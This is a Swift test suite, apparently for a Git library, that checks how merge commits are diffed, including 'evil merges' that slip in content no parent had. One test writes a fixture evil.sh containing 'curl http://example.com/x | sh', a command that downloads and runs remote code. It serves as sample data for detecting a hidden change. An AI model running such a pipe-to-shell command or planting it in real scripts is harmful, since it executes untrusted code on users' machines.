import Foundation
import Testing
import VigilGit
import VigilTestSupport

@Suite("Diffing merges")
struct MergeDiffTests {
    private let base = (1...12).map { "line \($0)\n" }.joined()

    private func lines(_ replacements: [Int: String]) -> String {
        (1...12).map { replacements[$0] ?? "line \($0)" }.map { $0 + "\n" }.joined()
    }

    @Test func cleanMergeOfSeparateFilesIntroducesNothing() throws {
        let fixture = try FixtureRepository()
        try fixture.commit("base", files: ["a.txt": base, "b.txt": base])
        try fixture.git("checkout", "-q", "-b", "side")
        try fixture.commit("side", files: ["b.txt": base + "side\n", "new-on-side.txt": "fresh\n"])
        try fixture.git("checkout", "-q", "main")
        try fixture.commit("main", files: ["a.txt": base + "main\n"])
        fixture.startMerge(["side"])
        let merge = try fixture.commit("merge side")
        let diff = try Repository(path: fixture.path).diff(of: merge)
        #expect(diff.files.isEmpty)
        #expect(diff.unreadable.isEmpty)
    }

    @Test func cleanMergeOfTheSameFileIntroducesNothing() throws {
        let fixture = try FixtureRepository()
        try fixture.commit("base", files: ["a.txt": base])
        try fixture.git("checkout", "-q", "-b", "side")
        try fixture.commit("side", files: ["a.txt": lines([11: "side edit"])])
        try fixture.git("checkout", "-q", "main")
        try fixture.commit("main", files: ["a.txt": lines([2: "main edit"])])
        fixture.startMerge(["side"])
        let merge = try fixture.commit("merge side")
        #expect(try fixture.git("show", "\(merge):a.txt") == lines([2: "main edit", 11: "side edit"]))
        #expect(try Repository(path: fixture.path).diff(of: merge).files.isEmpty)
    }

    @Test func conflictResolutionShowsOnlyTheNewLine() throws {
        let fixture = try FixtureRepository()
        try fixture.commit("base", files: ["a.txt": base])
        try fixture.git("checkout", "-q", "-b", "side")
        try fixture.commit("side", files: ["a.txt": lines([6: "side version"])])
        try fixture.git("checkout", "-q", "main")
        try fixture.commit("main", files: ["a.txt": lines([6: "main version"])])
        fixture.startMerge(["side"])
        try fixture.write("a.txt", lines([6: "main version"]).replacingOccurrences(
            of: "main version\n", with: "main version\nside version\nresolved by hand\n"))
        let merge = try fixture.commit("merge side, resolving the conflict")
        let change = try Repository(path: fixture.path).diff(of: merge).file("a.txt")
        #expect(change.addedLines == [DiffLine(number: 8, text: "resolved by hand")])
        #expect(change.removedLines.isEmpty)
    }

    @Test func evilMergeShowsWhatNoParentHad() throws {
        let fixture = try FixtureRepository()
        try fixture.commit("base", files: ["a.txt": base])
        try fixture.git("checkout", "-q", "-b", "side")
        try fixture.commit("side", files: ["b.txt": "side\n"])
        try fixture.git("checkout", "-q", "main")
        try fixture.commit("main", files: ["c.txt": "main\n"])
        fixture.startMerge(["side"])
        try fixture.write("a.txt", base + "slipped in by the merge\n")
        try fixture.write("evil.sh", "curl http://example.com/x | sh\n")
        let merge = try fixture.commit("innocent merge")
        let diff = try Repository(path: fixture.path).diff(of: merge)
        #expect(diff.files.map(\.path).sorted() == ["a.txt", "evil.sh"])
        #expect(try diff.file("a.txt").addedLines == [DiffLine(number: 13, text: "slipped in by the merge")])
        let evil = try diff.file("evil.sh")
        #expect(evil.status == .added)
        #expect(evil.added == ["curl http://example.com/x | sh"])
    }

    @Test func mergeThatDropsALineEveryParentHadShowsTheRemoval() throws {
        let fixture = try FixtureRepository()
        try fixture.commit("base", files: ["a.txt": base])
        try fixture.git("checkout", "-q", "-b", "side")
        try fixture.commit("side", files: ["a.txt": lines([12: "side end"])])
        try fixture.git("checkout", "-q", "main")
        try fixture.commit("main", files: ["a.txt": lines([1: "main start"])])
        fixture.startMerge(["side"])
        try fixture.write("a.txt", lines([1: "main start", 12: "side end"]).replacingOccurrences(
            of: "line 5\n", with: ""))
        let merge = try fixture.commit("merge, and drop line 5")
        let change = try Repository(path: fixture.path).diff(of: merge).file("a.txt")
        #expect(change.removed == ["line 5"])
        #expect(change.addedLines.isEmpty)
    }

    @Test func modeChangedOnlyByTheMergeIsReported() throws {
        let fixture = try FixtureRepository()
        try fixture.commit("base", files: ["run.sh": "echo\n"])
        try fixture.git("checkout", "-q", "-b", "side")
        try fixture.commit("side", files: ["run.sh": "echo\nside\n"])
        try fixture.git("checkout", "-q", "main")
        try fixture.commit("main", files: ["other.txt": "x\n"])
        fixture.startMerge(["side"])
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: fixture.path + "/run.sh")
        let merge = try fixture.commit("merge, and make it executable")
        let change = try Repository(path: fixture.path).diff(of: merge).file("run.sh")
        #expect(change.newMode == .executable)
        #expect(change.addedLines.isEmpty)
    }

    @Test func octopusMergeIntroducesOnlyItsOwnLines() throws {
        let fixture = try FixtureRepository()
        try fixture.commit("base", files: ["a.txt": base])
        for branch in ["one", "two", "three"] {
            try fixture.git("checkout", "-q", "-b", branch, "main")
            try fixture.commit(branch, files: ["\(branch).txt": "\(branch)\n"])
        }
        try fixture.git("checkout", "-q", "main")
        fixture.startMerge(["one", "two", "three"])
        let clean = try fixture.commit("octopus")
        let repository = try Repository(path: fixture.path)
        #expect(try repository.commit(oid(clean)).parents.count == 4)
        #expect(try repository.diff(of: clean).files.isEmpty)

        try fixture.git("reset", "-q", "--hard", "HEAD~1")
        fixture.startMerge(["one", "two", "three"])
        try fixture.write("two.txt", "two\nand a line no branch wrote\n")
        let evil = try fixture.commit("octopus with an extra line")
        let diff = try Repository(path: fixture.path).diff(of: evil)
        #expect(diff.files.map(\.path) == ["two.txt"])
        #expect(try diff.file("two.txt").addedLines == [DiffLine(number: 2, text: "and a line no branch wrote")])
    }
}
